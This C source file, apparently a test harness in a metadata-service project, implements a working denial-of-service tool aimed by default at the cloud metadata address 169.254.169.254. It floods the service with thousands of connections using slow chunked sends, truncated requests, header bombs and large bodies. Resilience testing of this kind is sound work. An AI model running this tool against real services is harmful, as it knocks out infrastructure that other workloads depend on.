/* SPDX-License-Identifier: MIT */

/*
 * A pod that means harm: many connections to the metadata service at once, each of which does the same.
 *
 *	attacker SECONDS [NAME=VALUE...] TARGET
 *
 * What is done with a connection, in this order:
 *	connections=N	how many at once; one that ends is replaced at once
 *	addresses=N	from so many addresses, the first of which is first=ADDRESS
 *	at=ADDRESS:PORT	where, if not at the metadata service
 *	header=N	bytes of headers beside the usual ones; many=1: in as many headers as possible
 *	body=N		POST with such a body
 *	chunk=N every=MSEC	so many bytes at a time, and then a pause; else all at once
 *	stop=N		send only so many bytes of the request, and then nothing
 *	depth=N		so many requests, before an answer is read; 0: it only connects
 *	deaf=1		answers are not read
 *	end=keep|close|reset	after the answers
 * In TARGET each "%" becomes a number that no other request has.
 *
 * Prints what came of it, "NAME COUNT" a line: connected, failed, cut, requests, and each status.
 */

#include "lib/base/cleanup.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define CONNECTIONS_MAX 20000
#define REQUEST_MAX	((size_t)256 * 1024)
#define STATUSES	600

enum end { END_KEEP, END_CLOSE, END_RESET };

static struct {
	unsigned connections, addresses, header, many, body, chunk, every, stop, depth, deaf;
	enum end end;
	struct in_addr first;
	struct sockaddr_in at;
	const char *target;
} plan = { .connections = 1, .addresses = 1, .depth = 1 };

struct conn {
	int fd; /* 0: none */
	bool connected;
	unsigned out, answered; /* requests that were begun, that were answered */
	char *request;
	size_t n, sent, allowed; /* allowed: with chunk= */
	char tail[16];		 /* the end of what was read, for a status line in two pieces */
	size_t n_tail;
};

static struct conn conns[CONNECTIONS_MAX];
static int loop;
static uint64_t number;
static struct {
	uint64_t connected, failed, cut, requests, status[STATUSES];
} count;

static uint64_t now_msec(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000 + (uint64_t)t.tv_nsec / 1000000;
}

/* requests: start() has seen to the room that they need */

#define put(p, ...) (size_t) snprintf(p, 4096, __VA_ARGS__)

static size_t put_target(char *p)
{
	size_t n = 0;

	for (const char *t = plan.target; *t; t++) {
		if (*t == '%')
			n += put(p + n, "%llx", (unsigned long long)number);
		else
			p[n++] = *t;
	}
	return n;
}

static size_t put_headers(char *p)
{
	size_t n = 0;

	if (plan.many) {
		while (n < plan.header)
			n += put(p + n, "a:b\r\n");
	} else if (plan.header) {
		n += put(p, "X-Bomb: ");
		memset(p + n, 'b', plan.header);
		n += plan.header;
		n += put(p + n, "\r\n");
	}
	return n;
}

static void build(struct conn *c)
{
	char *p = c->request;

	number++;
	p += put(p, "%s ", plan.body ? "POST" : "GET");
	p += put_target(p);
	p += put(p, " HTTP/1.1\r\nHost: 169.254.169.254\r\nMetadata: true\r\n");
	p += put_headers(p);
	if (plan.body)
		p += put(p, "Content-Length: %u\r\n", plan.body);
	p += put(p, "\r\n");
	memset(p, 'b', plan.body);
	c->n = (size_t)(p - c->request) + plan.body;
	c->sent = 0;
	if (plan.stop && plan.stop < c->n)
		c->n = plan.stop;
}

/* connections */

static void drop(struct conn *c)
{
	const struct linger reset = { .l_onoff = 1 };

	if (plan.end == END_RESET)
		(void)setsockopt(c->fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
	close(c->fd);
	c->fd = 0;
}

static void begin(struct conn *c, unsigned i)
{
	struct sockaddr_in from = { .sin_family = AF_INET,
				    .sin_addr.s_addr =
					    htonl(ntohl(plan.first.s_addr) + i % plan.addresses) };
	struct epoll_event e = { .events = EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET,
				 .data.ptr = c };
	const int small = 2048, yes = 1;
	char *request = c->request;

	*c = (struct conn){ .request = request, .allowed = plan.chunk };
	c->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (c->fd < 0) {
		c->fd = 0;
		return;
	}
	if (plan.deaf)
		(void)setsockopt(c->fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
	(void)setsockopt(c->fd, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof(yes));
	if (plan.first.s_addr && bind(c->fd, (struct sockaddr *)&from, sizeof(from)) < 0)
		perror("bind");
	if ((connect(c->fd, (struct sockaddr *)&plan.at, sizeof(plan.at)) < 0 &&
	     errno != EINPROGRESS) ||
	    epoll_ctl(loop, EPOLL_CTL_ADD, c->fd, &e) < 0) {
		count.failed++;
		drop(c);
	}
}

/* False: it has ended. */
static bool push(struct conn *c)
{
	for (;;) {
		size_t n = c->n - c->sent;
		ssize_t w;

		if (!n && c->out && plan.stop)
			return true;
		if (!n) {
			if (c->out - c->answered >= plan.depth && !plan.deaf)
				return true;
			build(c);
			c->out++;
			count.requests++;
			continue;
		}
		if (plan.chunk && n > c->allowed)
			n = c->allowed;
		if (!n)
			return true;
		w = send(c->fd, c->request + c->sent, n, MSG_NOSIGNAL);
		if (w < 0)
			return errno == EAGAIN;
		c->sent += (size_t)w;
		if (plan.chunk)
			c->allowed -= (size_t)w;
	}
}

static void see(struct conn *c, char *buf, size_t n)
{
	static const char line[] = "HTTP/1.1 ";
	char *end = buf + n;

	for (char *p = buf; (p = memmem(p, (size_t)(end - p), line, 9)) && end - p >= 12; p += 12) {
		unsigned status = (unsigned)strtoul(p + 9, NULL, 10);

		count.status[status < STATUSES ? status : 0]++;
		c->answered++;
	}
	/* less than what one is found by */
	c->n_tail = n < 11 ? n : 11;
	memcpy(c->tail, end - c->n_tail, c->n_tail);
}

static bool pull(struct conn *c)
{
	static char buf[16 + 65536];

	for (;;) {
		ssize_t n;

		memcpy(buf, c->tail, c->n_tail);
		n = recv(c->fd, buf + c->n_tail, 65536, 0);
		if (n < 0)
			return errno == EAGAIN;
		if (!n)
			return false;
		see(c, buf, c->n_tail + (size_t)n);
	}
}

static void on_event(struct conn *c, uint32_t events)
{
	if (!c->connected && (events & (EPOLLERR | EPOLLHUP))) {
		count.failed++;
		drop(c);
		return;
	}
	if (!c->connected) {
		c->connected = true;
		count.connected++;
	}
	if (!plan.depth) {
		if (plan.end != END_KEEP || (events & (EPOLLRDHUP | EPOLLERR | EPOLLHUP)))
			drop(c);
		return;
	}
	if (!push(c) || (!plan.deaf && !pull(c)) || (events & (EPOLLERR | EPOLLHUP | EPOLLRDHUP)) ||
	    (c->answered && !push(c))) {
		count.cut++;
		drop(c);
	} else if (plan.end != END_KEEP &&
		   (c->answered >= plan.depth || (plan.stop && c->sent == c->n))) {
		drop(c);
	}
}

/* New ones for those that ended; and a little more of what goes slowly. Returns how long to wait. */
static void tick(uint64_t now)
{
	static uint64_t next;

	for (unsigned i = 0; i < plan.connections; i++) {
		if (!conns[i].fd)
			begin(&conns[i], i);
	}
	if (!plan.chunk || now < next)
		return;
	next = now + plan.every;
	for (unsigned i = 0; i < plan.connections; i++) {
		struct conn *c = &conns[i];

		c->allowed = plan.chunk;
		if (c->fd && c->connected && !push(c)) {
			count.cut++;
			drop(c);
		}
	}
}

static void attack(uint64_t until)
{
	for (;;) {
		struct epoll_event events[256];
		uint64_t now = now_msec();
		int n;

		if (now >= until)
			return;
		tick(now);
		n = epoll_wait(loop, events, 256, 10);
		for (int i = 0; i < n; i++) {
			struct conn *c = events[i].data.ptr;

			if (c->fd)
				on_event(c, events[i].events);
		}
	}
}

/* the command line */

static bool set_address(const char *text)
{
	char ip[64] = "";
	const char *colon = strchr(text, ':');

	plan.at.sin_family = AF_INET;
	if (!colon || (size_t)(colon - text) >= sizeof(ip))
		return false;
	memcpy(ip, text, (size_t)(colon - text));
	plan.at.sin_port = htons((uint16_t)strtoul(colon + 1, NULL, 10));
	return inet_pton(AF_INET, ip, &plan.at.sin_addr) == 1;
}

static bool set(const char *name, const char *value)
{
	static const struct {
		const char *name;
		unsigned *to;
	} numbers[] = {
		{ "connections", &plan.connections },
		{ "addresses", &plan.addresses },
		{ "header", &plan.header },
		{ "many", &plan.many },
		{ "body", &plan.body },
		{ "chunk", &plan.chunk },
		{ "every", &plan.every },
		{ "stop", &plan.stop },
		{ "depth", &plan.depth },
		{ "deaf", &plan.deaf },
	};
	static const char *const ends[] = { "keep", "close", "reset" };

	for (size_t i = 0; i < sizeof(numbers) / sizeof(*numbers); i++) {
		if (strcmp(name, numbers[i].name) != 0)
			continue;
		*numbers[i].to = (unsigned)strtoul(value, NULL, 10);
		return true;
	}
	for (unsigned i = 0; strcmp(name, "end") == 0 && i < 3; i++) {
		if (strcmp(value, ends[i]) == 0) {
			plan.end = (enum end)i;
			return true;
		}
	}
	if (strcmp(name, "at") == 0)
		return set_address(value);
	return strcmp(name, "first") == 0 && inet_pton(AF_INET, value, &plan.first) == 1;
}

static void start(void)
{
	struct rlimit files = { CONNECTIONS_MAX, CONNECTIONS_MAX };
	size_t room = 4096 + 2 * strlen(plan.target) + plan.header + plan.body +
		      (size_t)16 * plan.many;

	(void)setrlimit(RLIMIT_NOFILE, &files); /* fewer connections, if it may not */
	if (plan.connections > CONNECTIONS_MAX || room > REQUEST_MAX) {
		fprintf(stderr, "attacker: too much\n");
		exit(2);
	}
	for (unsigned i = 0; i < plan.connections; i++) {
		conns[i].request = malloc(room);
		if (!conns[i].request)
			abort();
	}
	number = now_msec() << 24 ^ (uint64_t)getpid() << 40;
	loop = epoll_create1(EPOLL_CLOEXEC);
}

int main(int argc, char **argv)
{
	uint64_t seconds = argc > 1 ? strtoul(argv[1], NULL, 10) : 0;

	(void)set_address("169.254.169.254:80");
	for (int i = 2; i < argc - 1; i++) {
		char *value = strchr(argv[i], '=');

		if (value)
			*value++ = '\0';
		if (!value || !set(argv[i], value)) {
			fprintf(stderr, "attacker: what is %s?\n", argv[i]);
			return 2;
		}
	}
	if (argc < 3 || !seconds) {
		fprintf(stderr, "usage: attacker SECONDS [NAME=VALUE...] TARGET\n");
		return 2;
	}
	plan.target = argv[argc - 1];
	start();
	attack(now_msec() + seconds * 1000);
	printf("connected %llu\nfailed %llu\ncut %llu\nrequests %llu\n",
	       (unsigned long long)count.connected, (unsigned long long)count.failed,
	       (unsigned long long)count.cut, (unsigned long long)count.requests);
	for (unsigned i = 0; i < STATUSES; i++) {
		if (count.status[i])
			printf("%u %llu\n", i, (unsigned long long)count.status[i]);
	}
	return 0;
}
